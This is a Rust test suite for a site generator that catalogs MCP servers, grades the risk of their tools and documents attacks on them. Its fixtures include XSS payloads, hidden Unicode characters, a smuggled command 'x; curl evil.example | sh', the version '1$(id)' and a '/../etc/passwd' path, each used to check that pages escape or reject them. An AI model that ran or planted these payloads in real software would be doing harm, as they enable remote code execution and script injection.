//! A catalog of a few servers, one of them hostile in everything it says, looked at page by page.

use super::*;
use collection::import;
use serde_json::{Value, json};
use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

/// A catalog in a directory of its own, gone at the end.
struct Catalog {
    directory: PathBuf,
    collection: Collection,
}

impl Catalog {
    fn new(name: &str) -> Catalog {
        let directory = std::env::temp_dir().join(format!("callgate-pages-{}-{name}", std::process::id()));
        std::fs::create_dir_all(&directory).unwrap();
        let files = json!({"server": "@acme/files", "package": "@acme/files", "registry": "npm", "version": "1.2.0",
            "instructions": "List first.", "tools": [
            {"name": "read_file", "description": "Reads a file.", "inputSchema": {"type": "object",
                "properties": {"path": {"type": "string", "description": "Where it lies"}}, "required": ["path"]}},
            {"name": "delete_file", "description": "Deletes a file for good.", "inputSchema": {"type": "object",
                "properties": {"path": {"type": "string"}}, "required": ["path"]}}]});
        let hostile = json!({"server": "<script>alert(1)</script>", "instructions": "</main>\u{202e}<img src=x>", "tools": [
            {"name": "\"><svg onload=alert(1)>", "description": "</p><script>x</script> [a](javascript:x) ```\n\u{200b}hidden",
             "inputSchema": {"properties": {"<b>": {"type": "string", "description": "'\"><i>"}}}}]});
        let mut old = files.clone();
        old["version"] = json!("1.1.0");
        old["tools"].as_array_mut().unwrap().pop();
        let long = json!({"server": "長".repeat(150), "tools": [{"name": "x".repeat(400), "description": "Lists things."}]});
        let captures =
            [("files.json", files), ("old.json", old), ("hostile.json", hostile), ("long.json", long)].map(|(name, capture)| {
                let path = directory.join(name);
                std::fs::write(&path, capture.to_string()).unwrap();
                path
            });
        let path = directory.join("catalog.db");
        import(&path, &captures, "2026-01-15T10:30:00Z".parse().unwrap(), &mut |_| {}).unwrap();
        Catalog { collection: Collection::open(&path).unwrap(), directory }
    }

    fn site(&self) -> Site<'_> {
        Site::of(&self.collection, Form::Served)
    }

    #[track_caller]
    fn get(&self, path: &str) -> String {
        let (path, query) = path.split_once('?').unwrap_or((path, ""));
        let reply = self.site().answer(path, query).unwrap();
        assert_eq!(reply.status, 200, "{path}");
        reply.body
    }
}

impl Drop for Catalog {
    fn drop(&mut self) {
        let _ = std::fs::remove_dir_all(&self.directory);
    }
}

#[test]
fn a_command_is_shown_of_plain_packages_only() {
    let catalog = Catalog::new("command");
    assert!(catalog.get("/server/~40acme~2ffiles").contains("npx -y @acme/files@1.2.0"));
    for (name, package, version) in [("a", "x; curl evil.example | sh", "1.0.0"), ("b", "x", "1$(id)"), ("c", "owner/x", "1.0.0")]
    {
        let path = catalog.directory.join("more.json");
        let capture = json!({"server": name, "package": package, "registry": "npm", "version": version, "tools": []});
        std::fs::write(&path, capture.to_string()).unwrap();
        import(&catalog.directory.join("more.db"), &[path], "2026-01-15T10:30:00Z".parse().unwrap(), &mut |_| {}).unwrap();
    }
    let collection = Collection::open(&catalog.directory.join("more.db")).unwrap();
    for name in ["a", "b", "c"] {
        let page = Site::of(&collection, Form::Served).answer(&format!("/server/{name}"), "").unwrap();
        assert_eq!(page.status, 200, "{name}");
        assert!(!page.body.contains("npx"), "{}", page.body);
    }
}

#[test]
fn a_tools_page_says_what_it_may_do_and_why_and_what_to_do() {
    let catalog = Catalog::new("tool");
    let page = catalog.get("/server/~40acme~2ffiles/delete_file");
    for part in [
        "<h1>delete_file</h1>",
        "<span class=\"badge critical\">Destructive",
        "Deletes a file for good.",
        "Why it needs a policy",
        "<code>path</code>",
        "<td>yes</td>",
        "policy.yaml",
        "policy.json",
        "Questions and answers",
    ] {
        assert!(page.contains(part), "{part} is not in {page}");
    }
    let data: Value = serde_json::from_str(&catalog.get("/server/~40acme~2ffiles/delete_file.json")).unwrap();
    assert_eq!((&data["tool"], &data["risk"]["risk"]), (&json!("delete_file"), &json!("Destructive")));
    assert!(catalog.get("/server/~40acme~2ffiles/delete_file.md").starts_with("# delete\\_file\n"));
}

#[test]
fn a_servers_page_counts_lists_and_recommends() {
    let catalog = Catalog::new("server");
    let page = catalog.get("/server/~40acme~2ffiles");
    for part in [
        "npx -y @acme/files@1.2.0",
        "aria-label=\"Tools by class: 1 Read, 0 Write, 0 Execute, 1 Destructive",
        "../high-risk/~40acme~2ffiles",
        "List first.",
    ] {
        assert!(page.contains(part), "{part} is not in {page}");
    }
    assert!(page.contains("~40acme~2ffiles~401.1.0\">@acme/files@1.1.0</a>: 1 tool"), "{page}");
    let old: Value = serde_json::from_str(&catalog.get("/server/~40acme~2ffiles~401.1.0.json")).unwrap();
    assert_eq!(old["tools"].as_array().unwrap().len(), 1);
    let high = catalog.get("/high-risk/~40acme~2ffiles");
    assert!(high.contains("delete_file") && !high.contains(">read_file<"), "{high}");
    assert!(catalog.get("/high-risk").contains("delete_file"));
    assert!(catalog.get("/class/Destructive").contains("delete_file"));
    assert!(catalog.get("/llms.txt").starts_with("# Callgate catalog"));
}

#[test]
fn a_servers_page_has_the_grade_of_its_definitions_and_the_reasons() {
    let catalog = Catalog::new("grade");
    let honest = catalog.get("/server/~40acme~2ffiles");
    assert!(honest.contains("<span class=\"badge low\">A <span class=\"level\">· nothing was found</span></span>"), "{honest}");
    assert!(!honest.contains("What was found in its definitions"));
    let slug = slug("<script>alert(1)</script>");
    let hostile = catalog.get(&format!("/server/{slug}"));
    assert!(hostile.contains("what it tells the model: dangerous: it holds a character that turns the direction"), "{hostile}");
    let data: Value = serde_json::from_str(&catalog.get(&format!("/server/{slug}.json"))).unwrap();
    assert_eq!(data["inspection"]["grade"], "D");
    let tool = catalog.get(&format!("/server/{slug}/{}", super::slug("\"><svg onload=alert(1)>")));
    assert!(tool.contains("What was found in its definition") && tool.contains("an invisible character"), "{tool}");
}

#[test]
fn a_tools_page_names_the_attacks_that_apply() {
    let catalog = Catalog::new("applies");
    let page = catalog.get("/server/~40acme~2ffiles/delete_file");
    for part in [
        "Documented attacks that apply",
        "../../attacks/filesystem-mcp-escaperoute\"",
        "<code>path</code> takes a path",
        "its class is Destructive",
    ] {
        assert!(page.contains(part), "{part} is not in {page}");
    }
    let data: Value = serde_json::from_str(&catalog.get("/server/~40acme~2ffiles/delete_file.json")).unwrap();
    let found = data["attacks"].as_array().unwrap();
    let escape = found.iter().find(|attack| attack["id"] == "filesystem-mcp-escaperoute").unwrap();
    assert_eq!(escape["places"][0]["argument"], "path");
}

#[test]
fn an_attacks_page_says_what_happened_what_stops_it_and_who_says_so() {
    let catalog = Catalog::new("attack");
    let index = catalog.get("/attacks");
    for attack in attacks::all() {
        let page = catalog.get(&format!("/attacks/{}", attack.id));
        let escaped = |text: &str| crate::html::escape(text);
        for said in [&attack.title, &attack.affected].into_iter().chain(&attack.cves) {
            assert!(page.contains(&escaped(said)), "{}: {said}", attack.id);
        }
        assert!(attack.happened.split('`').all(|said| page.contains(&escaped(said))), "{}", attack.id);
        for source in &attack.sources {
            // What is not encrypted is named, and not linked to.
            let is_linked = source.url.starts_with("https://");
            let end = if is_linked { "</a>" } else { "" };
            let said = format!(">{}{end} ({})", escaped(&source.url), source.seen.describe());
            assert!(page.contains(&said), "{}: {said}", attack.id);
        }
        for used in attack.controls.iter().chain(&attack.elsewhere) {
            let first = used.how.split('`').next().unwrap_or_default();
            assert!(page.contains(&format!("<code>{}</code>: {}", used.control, escaped(first))), "{}", attack.id);
        }
        let frameworks = &attack.frameworks;
        for id in [&frameworks.atlas, &frameworks.mcp, &frameworks.llm, &frameworks.agentic].into_iter().flatten() {
            assert!(page.contains(id.as_str()), "{}: {id}", attack.id);
        }
        assert_eq!(page.contains("policy.json"), attack.policy.is_some());
        assert_eq!(page.contains(&format!("callgate attacks test {}", attack.id)), !attack.cases.is_empty());
        assert!(index.contains(&format!("href=\"attacks/{}\"", attack.id)), "{}", attack.id);
    }
    let index: Value = serde_json::from_str(&catalog.get("/attacks.json")).unwrap();
    assert_eq!(index.as_array().unwrap().len(), attacks::all().len());
    let one: Value = serde_json::from_str(&catalog.get("/attacks/fetch-mcp-ssrf.json")).unwrap();
    assert_eq!(one["reach"], "limits");
    assert!(catalog.get("/attacks/fetch-mcp-ssrf.md").contains("## What happened"));
    assert!(catalog.get("/llms.txt").contains("](attacks/fetch-mcp-ssrf.md)"));
}

#[test]
fn high_risk_tools_of_all_servers_come_with_their_policies() {
    let catalog = Catalog::new("all-risks");
    let page = catalog.get("/high-risk");
    assert!(page.contains("<summary>delete_file of @acme/files</summary>") && page.contains("hide:\n"), "{page}");
    for path in ["/level/critical", "/signal/path", "/class/Destructive"] {
        assert!(catalog.get(path).contains("delete_file"), "{path}");
    }
}

#[test]
fn a_search_is_narrowed_by_class_level_and_signal() {
    let catalog = Catalog::new("search");
    let tools = |query: &str| -> Vec<String> {
        let data: Value = serde_json::from_str(&catalog.get(&format!("/search.json?{query}"))).unwrap();
        data["tools"].as_array().unwrap().iter().map(|tool| tool["tool"].as_str().unwrap().to_owned()).collect()
    };
    assert_eq!(tools("q=file&class=Destructive"), ["delete_file"]);
    assert_eq!(tools("q=read+file&class=Read"), ["read_file"]);
    assert!(tools("q=nothing%20of%20the%20kind").is_empty());
    assert!(catalog.get("/search?q=%22%3E%3Cb%3E").contains("value=\"&quot;&gt;&lt;b&gt;\""));
}

#[test]
fn nothing_that_a_server_says_becomes_markup_or_stays_hidden() {
    let catalog = Catalog::new("hostile");
    let mut paths = Vec::new();
    catalog
        .site()
        .paths(|path| {
            paths.push(path.to_owned());
            Ok(())
        })
        .unwrap();
    assert!(paths.len() > 10, "{paths:?}");
    for path in &paths {
        let page = catalog.get(&format!("/{path}"));
        for mark in ["<script>", "<svg onload", "<img", "<i>", "<b>", "\u{202e}", "\u{200b}", "href=\"javascript"] {
            assert!(!page.contains(mark), "{path} holds {mark}");
        }
        assert_eq!(page.matches("<main").count(), page.matches("</main>").count());
        // Between fences everything is text.
        let has_policies = path.contains('/') || path == "high-risk";
        assert!(has_policies || !catalog.get(&format!("/{path}.md")).contains("<script>"), "{path}");
        let _: Value = serde_json::from_str(&catalog.get(&format!("/{path}.json"))).unwrap();
    }
}

#[test]
fn every_link_of_every_page_leads_to_a_page() {
    let catalog = Catalog::new("links");
    let site = Site::of(&catalog.collection, Form::Files);
    let mut paths = Vec::new();
    site.paths(|path| {
        paths.push(format!("{path}.html"));
        Ok(())
    })
    .unwrap();
    // Each is looked at once, however many lead there.
    let mut seen: BTreeMap<String, String> = BTreeMap::new();
    for path in &paths {
        let page = site.answer(path, "").unwrap().body;
        let targets = page.split("href=\"").skip(1).filter_map(|rest| rest.split('"').next());
        for target in targets.filter(|target| !target.starts_with("https://")) {
            let (target, place) = target.split_once('#').unwrap_or((target, ""));
            let mut parts: Vec<&str> = path.split('/').collect();
            if !target.is_empty() {
                parts.pop();
            }
            for part in target.split('/').filter(|part| !part.is_empty()) {
                match part {
                    ".." => drop(parts.pop()),
                    part => parts.push(part),
                }
            }
            let target = parts.join("/");
            let there = seen.entry(target.clone()).or_insert_with(|| {
                let reply = site.answer(&target, "").unwrap();
                assert_eq!(reply.status, 200, "{path} links to {target}");
                reply.body
            });
            assert!(place.is_empty() || there.contains(&format!("id=\"{place}\"")), "{path}: {target} has no {place}");
        }
    }
}

#[test]
fn a_very_long_name_has_a_page_and_a_file_name() {
    let catalog = Catalog::new("long");
    let mut longest = 0;
    let site = Site::of(&catalog.collection, Form::Files);
    site.paths(|path| {
        longest = path.split('/').map(str::len).chain([longest]).max().unwrap();
        Ok(())
    })
    .unwrap();
    assert!((150..=250).contains(&longest), "{longest}");
    let page = catalog.get(&format!("/server/{}", slug(&"長".repeat(150))));
    assert!(page.contains(&"長".repeat(150)));
    assert_eq!(catalog.site().answer(&format!("/server/{}~~0123456789abcde", "~e9".repeat(50)), "").unwrap().status, 404);
}

/// A handful of pages in every form, as they stood when somebody looked at them. After a change that is meant:
/// `CALLGATE_SNAPSHOTS=write cargo nextest run -p callgate-pages`.
#[test]
fn pages_look_as_they_did_when_they_were_looked_at() {
    let catalog = Catalog::new("snapshots");
    let directory = Path::new(env!("CARGO_MANIFEST_DIR")).join("snapshots");
    let hostile = format!("server/{}/{}", slug("<script>alert(1)</script>"), slug("\"><svg onload=alert(1)>"));
    let pages = [
        ("index", "index"),
        ("server", "server/~40acme~2ffiles"),
        ("high-risk", "high-risk/~40acme~2ffiles"),
        ("tool", "server/~40acme~2ffiles/delete_file"),
        ("hostile", &hostile),
        ("attack", "attacks/fetch-mcp-ssrf"),
        ("servers", "servers"),
        ("class", "class/Destructive"),
        ("all-high-risk", "high-risk"),
        ("attacks", "attacks"),
    ];
    for (name, path) in pages {
        for ending in ["html", "md", "json"] {
            let written = Site::of(&catalog.collection, Form::Files).answer(&format!("{path}.{ending}"), "").unwrap().body;
            let file = directory.join(format!("{name}.{ending}"));
            if std::env::var_os("CALLGATE_SNAPSHOTS").is_some_and(|what| what == "write") {
                std::fs::create_dir_all(&directory).unwrap();
                std::fs::write(&file, &written).unwrap();
            }
            let kept = std::fs::read_to_string(&file).unwrap_or_default();
            let differs = kept.lines().zip(written.lines()).position(|(one, other)| one != other);
            assert!(
                kept == written,
                "{} is another, from line {:?} on; look at it, and if it is meant, write it anew (see above)",
                file.display(),
                differs.map_or(kept.lines().count() + 1, |line| line + 1)
            );
        }
    }
}

#[test]
fn what_is_not_there_is_not_found() {
    let catalog = Catalog::new("missing");
    for path in ["/nothing", "/server/none", "/server/~zz", "/server/~40acme~2ffiles/none", "/class/Bad", "/../etc/passwd"] {
        assert_eq!(catalog.site().answer(path, "").unwrap().status, 404, "{path}");
    }
}
